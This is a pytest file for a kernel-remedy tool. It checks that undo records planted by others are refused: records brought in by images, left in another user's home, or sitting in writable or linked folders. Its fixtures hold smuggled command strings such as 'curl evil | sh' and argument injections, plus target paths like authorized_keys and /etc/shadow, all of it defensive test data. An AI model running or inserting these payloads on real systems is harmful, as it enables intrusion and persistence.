# SPDX-License-Identifier: GPL-2.0-or-later
"""What others may write is never obeyed: records in an image, in somebody else's folder, of an unknown kind."""

import json
import os
from pathlib import Path

import pytest

from ejectable import host
from ejectable.advisories import choose
from ejectable.errors import DamagedInput, EjectableError, Missing, WrongUsage
from ejectable.remedies import Request, Situation, execute
from ejectable.remedies.changes import interrupted
from ejectable.remedies.records import Records
from ejectable.remedies.state import folder_of
from tests.host.trees import Machine, affected_module

pytestmark = [
    pytest.mark.kernels,
    pytest.mark.skipif(os.geteuid() != 0, reason="what others could make root do is shown as root"),
]
STATES = ("open", "done")


@pytest.fixture
def image(tmp_path: Path) -> Path:
    return Machine(module=affected_module(), panic_on_oops=0).build(tmp_path / "image")


def situation(tree: Path) -> Situation:
    return Situation(host.Root(tree), choose(()), cache=False, offline=True)


def hostile(flag: Path, state: str) -> dict[str, object]:
    """The record of the audit: what it would undo is a command, and a file outside of its tree."""
    steps = [
        {"type": "command", "argv": ["true"], "undo": ["touch", str(flag)], "what": "nothing"},
        {"type": "file", "path": "/etc/hostname", "before": "b3duZWQK", "after": None, "mode_before": 0o4755},
    ]
    return {"number": 1, "remedy": "panic-policy", "started": "2026-01-01T00:00:00Z", "state": state, "steps": steps}


def record(*steps: dict[str, object], **fields: object) -> dict[str, object]:
    """A record in our format, of an interrupted change."""
    begun = {"format": 2, "number": 1, "remedy": "panic-policy", "started": "2026-01-01T00:00:00Z", "state": "open"}
    return begun | {"steps": steps} | fields


def written(path: str, **fields: object) -> dict[str, object]:
    """A step that, undone, puts a file of its own where there is none."""
    return {"type": "write", "path": path, "real": path, "before": "b3duZWQK", "after": "b3duZWQK"} | fields


def keep(folder: Path, record: dict[str, object]) -> None:
    (folder / "changes").mkdir(parents=True)
    (folder / "changes/000001.json").write_text(json.dumps(record))


@pytest.mark.parametrize("state", STATES)
def test_records_that_an_image_brings_along_are_not_ours(image: Path, tmp_path: Path, state: str) -> None:
    flag = tmp_path / "flag"
    keep(image / "var/lib/ejectable", hostile(flag, state))
    assert execute.left_open(situation(image)) == ()
    with pytest.raises(WrongUsage, match="nothing to undo"):
        execute.undo(situation(image), "panic-policy", Request())
    execute.apply(situation(image), "panic-policy", Request())
    execute.undo(situation(image), "panic-policy", Request())
    assert not flag.exists()
    assert (image / "etc/hostname").read_text() == "web-1\n"
    assert len(list((image / "var/lib/ejectable").rglob("*"))) == 2, "and nothing of ours is written there"


def test_each_tree_has_its_own_records_on_this_machine(tmp_path: Path) -> None:
    one, other = (Machine(module=affected_module(), panic_on_oops=0).build(tmp_path / name) for name in ("a", "b"))
    execute.apply(situation(one), "panic-policy", Request())
    with pytest.raises(WrongUsage, match="nothing to undo"):
        execute.undo(situation(other), "panic-policy", Request())
    (tmp_path / "link").symlink_to(one)
    assert execute.undo(situation(tmp_path / "link"), "panic-policy", Request()).verified, "however it is spelt"


@pytest.mark.parametrize("state", STATES)
def test_a_kept_home_of_another_user_decides_nothing_for_root(
    image: Path, tmp_path: Path, state: str, monkeypatch: pytest.MonkeyPatch, own_state: Path
) -> None:
    """As `sudo -E` keeps HOME and XDG_STATE_HOME."""
    home, flag = tmp_path / "home", tmp_path / "flag"
    keep(home / ".local/state/ejectable", hostile(flag, state) | {"remedy": "source-patch"})
    for path in (home, *home.rglob("*")):
        os.chown(path, 65534, 65534)
    monkeypatch.setenv("HOME", str(home))
    monkeypatch.setenv("XDG_STATE_HOME", str(home / ".local/state"))
    with pytest.raises(WrongUsage, match="nothing to undo"):
        execute.undo(situation(image), "source-patch", Request())
    assert not flag.exists()
    assert own_state.is_dir()


@pytest.mark.parametrize("what", ["owner", "group", "others", "above", "link", "file"])
def test_a_folder_that_others_may_write_is_refused_and_said(
    image: Path, tmp_path: Path, what: str, own_state: Path
) -> None:
    flag = tmp_path / "flag"
    folder = folder_of(host.Root(image))
    keep(folder, record())
    match what:
        case "owner":
            os.chown(folder / "changes", 65534, 65534)
        case "group":
            folder.chmod(0o775)
        case "others":
            (folder / "changes").chmod(0o777)
        case "above":
            own_state.chmod(0o777)
        case "link":
            (folder / "changes").rename(tmp_path / "elsewhere")
            (folder / "changes").symlink_to(tmp_path / "elsewhere")
        case _:
            (folder / "changes").rename(tmp_path / "elsewhere")
            (folder / "changes").write_text("")
    for do in (execute.apply, execute.undo):
        with pytest.raises((Missing, DamagedInput), match=r"nothing in it is obeyed|found a link or a file"):
            do(situation(image), "panic-policy", Request())
    assert not flag.exists()
    (note,) = execute.left_open(situation(image))
    assert str(own_state) in note


@pytest.mark.parametrize("what", ["owner", "mode", "second name", "link", "fifo"])
def test_a_record_that_others_may_write_is_left_out(image: Path, tmp_path: Path, what: str) -> None:
    folder = folder_of(host.Root(image))
    keep(folder, record())
    one = folder / "changes/000001.json"
    match what:
        case "owner":
            os.chown(one, 65534, 65534)
        case "mode":
            one.chmod(0o666)
        case "second name":
            (tmp_path / "second").hardlink_to(one)
        case "link":
            one.rename(tmp_path / "elsewhere")
            one.symlink_to(tmp_path / "elsewhere")
        case _:
            one.unlink()
            os.mkfifo(one)
    assert interrupted(host.Root(image)) == ()
    with pytest.raises(EjectableError):
        execute.undo(situation(image), "panic-policy", Request())
    assert not (tmp_path / "flag").exists()


def test_what_killed_writes_left_beside_the_records_is_swept(image: Path) -> None:
    execute.apply(situation(image), "panic-policy", Request())
    folder = folder_of(host.Root(image)) / "changes"
    for name in (".ejectable-0123456789abcdef", ".ejectable-fedcba9876543210"):
        (folder / name).write_text("{")
    (folder / "theirs").write_text("not ours")
    execute.undo(situation(image), "panic-policy", Request())
    assert sorted(path.name for path in folder.iterdir()) == ["000001.json", "theirs"]
    assert len(Records(host.Root(image)).all()) == 1


DROP_IN = "/etc/sysctl.d/90-ejectable-panic.conf"


def test_the_records_here_would_be_obeyed_if_they_were_sound(image: Path) -> None:
    keep(
        folder_of(host.Root(image)),
        record({"type": "remove", "before": "b3duZWQK", "mode_before": 0o644} | at(DROP_IN)),
    )
    assert interrupted(host.Root(image))
    assert "/etc/sysctl.d/90-ejectable-panic.conf" in " ".join(
        execute.undo(situation(image), "panic-policy", Request()).changes
    )
    assert (image / DROP_IN[1:]).read_text() == "owned\n"


def at(path: str) -> dict[str, object]:
    return {"path": path, "real": path}


@pytest.mark.parametrize(
    "step",
    [
        *(written(path) for path in ("/../x", "/etc/../../x", "etc/hostname", "//etc/hosts", "/etc/./hosts", "/")),
        written("/etc/hostname"),
        written("/etc/sysctl.d/other.conf"),
        written(DROP_IN, real="/../x"),
        written(DROP_IN, mode_before=0o4755),
        written(DROP_IN, mode_before=-1),
        written(DROP_IN, folders=["/home"]),
        written(DROP_IN, folders=["/etc/../home"]),
        written(DROP_IN, argv=["touch", "/x"]),
        {"type": "command", "argv": ["true"], "undo": ["touch", "/x"], "what": "t"},
        {"type": "load-module"},
        {"type": "start-units"},
        {"type": "add-to-dkms", "version": "../../x"},
        {"type": "install", "manager": "apt", "new": ["bash"]},
        {"type": "renew-menu"},
        {"type": "set", "before": "1", "after": "0"} | at("/proc/sys/kernel/panic"),
        {"type": "set", "before": "|/x", "after": "0"} | at("/proc/sys/kernel/core_pattern"),
    ],
    ids=lambda step: json.dumps(step)[:60],
)
def test_a_record_with_a_step_that_its_remedy_does_not_take_in_a_tree_is_no_record(
    image: Path, step: dict[str, object]
) -> None:
    folder = folder_of(host.Root(image))
    keep(folder, record(step))
    before = (folder / "changes/000001.json").read_bytes()
    assert interrupted(host.Root(image)) == ()
    (image / "x").write_text("theirs\n")
    execute.apply(situation(image), "panic-policy", Request())
    assert not (image.parent / "x").exists()
    assert (image / "etc/hostname").read_text() == "web-1\n"
    assert (folder / "changes/000001.json").read_bytes() == before


@pytest.mark.parametrize(
    ("remedy", "step"),
    [
        ("upgrade", {"type": "install", "manager": "apt", "new": ["-o", "Dir::Bin=/x"]}),
        ("upgrade", {"type": "install", "manager": "sh", "new": ["bash"]}),
        ("upgrade", {"type": "install", "manager": "apt", "new": [], "leftovers": "../.."}),
        ("upgrade", {"type": "load-module"}),
        ("upgrade", written("/etc/shadow")),
        ("instance-type", {"type": "stop-instance", "region": "cn-hangzhou", "instance": "i-1 --force"}),
        ("instance-type", {"type": "stop-instance", "region": "evil.example/", "instance": "i-1"}),
        ("live", {"type": "add-to-dkms", "version": "1 --all; x"}),
        ("live", written("/etc/systemd/system/sshd.service")),
        ("live", written("/usr/src/ejectable-live-0.1.0/../../x")),
        ("force-legacy", written("/etc/default/grub.d/a/b.cfg")),
        ("source-patch", written("/root/.ssh/authorized_keys")),
        ("detach-while-stopped", written("/etc/hosts")),
        ("panic-policy", {"type": "set", "before": "|/x", "after": "0"} | at("/proc/sys/kernel/core_pattern")),
    ],
)
def test_what_a_remedy_of_this_machine_does_not_do_is_no_record_of_it(
    tmp_path: Path, remedy: str, step: dict[str, object]
) -> None:
    root = host.Root(tmp_path)
    root.live = True
    keep(folder_of(root), record(step, remedy=remedy))
    assert Records(root).all() == ()


def test_a_record_of_the_format_before_is_refused_and_never_run(image: Path, tmp_path: Path) -> None:
    folder = folder_of(host.Root(image))
    keep(folder, hostile(tmp_path / "flag", "done"))
    (note,) = execute.left_open(situation(image))
    assert "recorded by an earlier version" in note
    assert "000001.json" in note
    with pytest.raises(Missing, match="recorded by an earlier version") as caught:
        execute.undo(situation(image), "panic-policy", Request())
    assert "by hand" in str(caught.value.hint)
    execute.apply(situation(image), "panic-policy", Request())
    assert not (tmp_path / "flag").exists()


def test_a_link_that_came_since_leads_no_undoing_out_of_its_place(image: Path, tmp_path: Path) -> None:
    outside = tmp_path / "outside"
    execute.apply(situation(image), "panic-policy", Request())
    (image / "etc/sysctl.d").rename(outside)
    (image / "etc/sysctl.d").symlink_to(outside)
    (image / "etc/elsewhere").mkdir()
    done = execute.undo(situation(image), "panic-policy", Request())
    assert not done.verified
    assert "link to nothing" in done.why
    assert len(list(outside.iterdir())) == 1


@pytest.mark.parametrize(
    "field", [{"remedy": "live; curl evil | sh"}, {"remedy": "a\x1b[31m"}, {"started": "now; curl evil | sh"}]
)
def test_nothing_of_a_record_becomes_a_command_to_paste_but_the_name_of_a_remedy(
    image: Path, field: dict[str, str]
) -> None:
    keep(folder_of(host.Root(image)), record(**field))
    assert execute.left_open(situation(image)) == ()


def test_a_remedy_that_is_not_known_is_not_offered_for_undoing(image: Path) -> None:
    keep(folder_of(host.Root(image)), record(remedy="prayer"))
    assert execute.left_open(situation(image)) == ()
